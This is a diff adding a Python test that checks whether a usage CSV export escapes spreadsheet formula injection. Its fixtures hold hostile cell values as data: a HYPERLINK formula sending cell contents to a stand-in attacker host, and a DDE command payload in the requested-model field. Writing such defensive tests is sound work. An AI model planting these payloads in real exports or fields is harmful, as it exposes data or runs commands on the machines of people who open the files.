@@ -57,6 +57,35 @@ def test_usage_csv_names_the_key_of_each_request(tenants: Any) -> None:
     ]
 
 
+def test_usage_csv_cells_are_never_spreadsheet_formulas(tenants: Any) -> None:
+    # A key name is an admin's text and a requested model is the request sender's: a cell
+    # starting with = + - @ (or a tab, CR) would run as a formula where the export is opened.
+    key_make(tenants.organization, name='=HYPERLINK("https://evil.example/?"&A2,"open")')
+    key = ApiKey.objects.get(name__startswith="=HYPERLINK")
+    usage_settle(
+        UsageDraft(
+            generation_id="gen-csv-formula",
+            organization_id=tenants.organization.pk,
+            key_id=key.pk,
+            status="succeeded",
+            cost=Decimal("0"),
+            model="demo/small",
+            requested_model="@SUM(1+1)*cmd|' /C calc'!A0",
+            provider="-2+3",
+            created_at=timezone.now(),
+        )
+    )
+    manage = key_client(key_make(tenants.organization, scope=KeyScope.MANAGE))
+
+    response = manage.get("/api/v1/usage/export.csv")
+
+    (row,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
+    assert row["key_name"] == """'=HYPERLINK("https://evil.example/?"&A2,"open")"""
+    assert row["requested_model"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["provider"] == "'-2+3"
+    assert (row["model"], row["cost"]) == ("demo/small", "0.00000000")
+
+
 def test_playground_says_which_prices_each_cost_uses(tenants: Any) -> None:
     html = (
         dashboard_client(tenants.member, tenants.organization)
